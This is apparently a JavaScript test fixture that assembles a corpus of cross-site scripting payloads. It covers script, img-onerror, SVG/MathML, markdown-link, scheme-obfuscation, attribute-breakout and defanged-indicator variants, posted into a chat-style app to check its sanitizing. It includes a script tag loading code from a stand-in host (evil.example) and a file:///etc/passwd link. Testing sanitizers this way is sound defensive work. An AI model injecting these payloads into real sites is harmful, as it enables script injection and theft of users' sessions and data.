// Cross-site scripting payloads posted as messages, names, channel names and purposes, and
// file names. Each one, if it ever ran, would call alert(), confirm(), prompt() or xss(), which
// the test counts. Hand-written classics first, then systematic variants.

const JS = ['alert(1)', 'xss()', 'confirm(1)', 'prompt(1)', 'top.xss()', 'window[\'al\'+\'ert\'](1)', 'eval(atob(\'eHNzKCk=\'))', '(xss)()'];

const classics = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script>xss()</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '"><script>alert(1)</script>',
    '\'><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="xss()">',
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<img src=`javascript:alert(1)`>',
    '<img """><script>alert(1)</script>">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<video><source onerror="alert(1)">',
    '<audio src=x onerror=alert(1)>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<table background="javascript:alert(1)">',
    '<button formaction=javascript:alert(1)>x</button>',
    '<x onclick=alert(1)>click</x>',
    '<p onmouseover=alert(1)>hover</p>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import "javascript:alert(1)";</style>',
    '<template><script>alert(1)</script></template>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '<scrİpt>alert(1)</scrİpt>',
    '[click](javascript:alert(1))',
    '[click](JAVASCRIPT:alert(1))',
    '[click](javascript&#58;alert(1))',
    '[click](&#106;avascript:alert(1))',
    '[click](  javascript:alert(1)  )',
    '[click](java\nscript:alert(1))',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](data:text/html,<script>alert(1)</script>)',
    '[a](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    '[a](<javascript:alert(1)>)',
    '<javascript:alert(1)>',
    '<https://ok.example/"onmouseover="alert(1)>',
    '![img](javascript:alert(1))',
    '![x" onerror="alert(1)](https://ok.example/i.png)',
    '![img](https://ok.example/i.png" onerror="alert(1))',
    '![img](x onerror=alert(1))',
    '[![img](javascript:alert(1))](javascript:alert(1))',
    '[text][ref]\n\n[ref]: javascript:alert(1)',
    '[text][ref]\n\n[ref]: https://ok.example "x\\" onclick=\\"alert(1)"',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
    '> <svg onload=alert(1)>',
    '* <img src=x onerror=alert(1)>',
    '**<img src=x onerror=alert(1)>**',
    '# <script>alert(1)</script>',
    '@<img src=x onerror=alert(1)>',
    '@alice<script>alert(1)</script>',
    ':<img src=x onerror=alert(1)>:',
    '~town-square<svg onload=alert(1)>',
    '<a href="https://ok.example" onclick="alert(1)">ok link</a>',
    '<a href="#" id="x" style="position:fixed;inset:0">overlay</a>',
    '"onmouseover="alert(1)',
    '\' onmouseover=\'alert(1)',
    'javascript:alert(1)',
    '{{constructor.constructor(\'alert(1)\')()}}',
    '${alert(1)}',
    '<img src=x onerror=import(\'data:text/javascript,alert(1)\')>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></iframe></foreignObject></svg>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<a href="javas&#99;ript:alert(1)">entity</a>',
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
];


// SVG and MathML namespaces, where sanitizers have historically slipped.
const svgVariants = [
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    '<svg><image href=x onerror=alert(1)></image></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    '<svg><discard onbegin=alert(1)>',
    '<svg><animatetransform onbegin=alert(1) attributeName=transform>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
    '<svg><script href="data:,alert(1)" />',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<svg><feImage href="javascript:alert(1)"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
];

// Markdown structure tricks: links and images hiding markup in their parts.
const markdownTricks = [
    '[<img src=x onerror=alert(1)>](https://ok.example)',
    '[x](https://ok.example)<img src=x onerror=alert(1)>',
    '![<svg onload=alert(1)>](https://ok.example/a.png)',
    '[x](https://ok.example/<script>alert(1)</script>)',
    '[x](https://ok.example/"><img src=x onerror=alert(1)>)',
    '[x](#"onmouseover="alert(1))',
    '[x](//evil.example/%0aalert(1))',
    '<https://ok.example/<img src=x onerror=alert(1)>>',
    '<mailto:a@b.example?body=<script>alert(1)</script>>',
    '[x](mailto:"><img src=x onerror=alert(1)>)',
    '**[x](javascript:alert(1))**',
    '_[x](javascript:alert(1))_',
    '~~<img src=x onerror=alert(1)>~~',
    '1. [x](javascript:alert(1))',
    '    <script>alert(1)</script>',
    '<div>\n\n[x](javascript:alert(1))\n\n</div>',
    '[x]: javascript:alert(1)\n[x]',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '[x](file:///etc/passwd)',
];

// Systematic variants: every event handler on several tags.
const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'onanimationstart', 'onpointerenter', 'onbegin'];
const tags = ['img src=x', 'svg', 'body', 'video src=x', 'div tabindex=0 autofocus'];
const handlerVariants = [];
for (const h of handlers) {
    for (const t of tags) {
        handlerVariants.push(`<${t} ${h}=${JS[handlerVariants.length % JS.length]}>`);
    }
}

// Link scheme obfuscations, in markdown links, images, reference links and raw anchors.
const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'javascript&colon;', 'java\tscript:', '&#x6A;avascript:', 'vbscript:', 'data:text/html,'];
const linkVariants = [];
for (const s of schemes) {
    const js = JS[linkVariants.length % JS.length];
    linkVariants.push(`[link](${s}${js})`);
    linkVariants.push(`![image](${s}${js})`);
    linkVariants.push(`[ref link][r${linkVariants.length}]\n\n[r${linkVariants.length}]: ${s}${js}`);
    linkVariants.push(`<a href="${s}${js}">anchor</a>`);
}

// Attribute breakouts in every quoting style.
const breakouts = [];
for (const q of ['"', '\'', '`', '']) {
    for (const js of JS.slice(0, 4)) {
        breakouts.push(`${q}><img src=x onerror=${js}>`);
    }
}

// Indicator-looking text: these are captured and highlighted, so the payload travels through
// extraction, the highlight's attributes and text, the indicator panels and the review page.
const indicatorTricks = [
    'evil[.]com"><img src=x onerror=alert(1)>',
    'evil[.]com\'><svg onload=alert(1)>',
    '45.137.21[.]9"><script>alert(1)</script>',
    'hxxp://evil[.]com/"><img src=x onerror=alert(1)>',
    'hxxps://evil[.]com/?q=<img/src/onerror=alert(1)>',
    'http://evil.com/"onmouseover="alert(1)',
    'https://evil.com/#<svg/onload=alert(1)>',
    'user[@]evil[.]com<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">evil[.]com</a>',
    '[evil[.]com](javascript:alert(1))',
    '[hxxp://evil[.]com](javascript:alert(1))',
    '**evil[.]com**<details open ontoggle=alert(1)>',
    '`evil[.]com` <img src=x onerror=alert(1)> evil.com',
    'evil.com<iframe srcdoc="<script>parent.xss()</script>">',
    'd41d8cd98f00b204e9800998ecf8427e"><img src=x onerror=xss()>',
    'CVE-2024-3400<img src=x onerror=alert(1)>',
    'evil[.]com,45.137.21[.]9,<svg onload=alert(1)>,evil[.]org',
    '😀evil[.]com😀<img src=x onerror=alert(1)>',
    'evil[.]com&#x22;&#x3E;&#x3C;img src=x onerror=alert(1)&#x3E;',
    'javascript://evil.com/%0aalert(1)',
];

export const CORPUS = [...new Set([...classics, ...svgVariants, ...markdownTricks, ...handlerVariants, ...linkVariants, ...breakouts, ...indicatorTricks])];

if (CORPUS.length < 200) {
    throw new Error(`the XSS corpus has only ${CORPUS.length} payloads`);
}
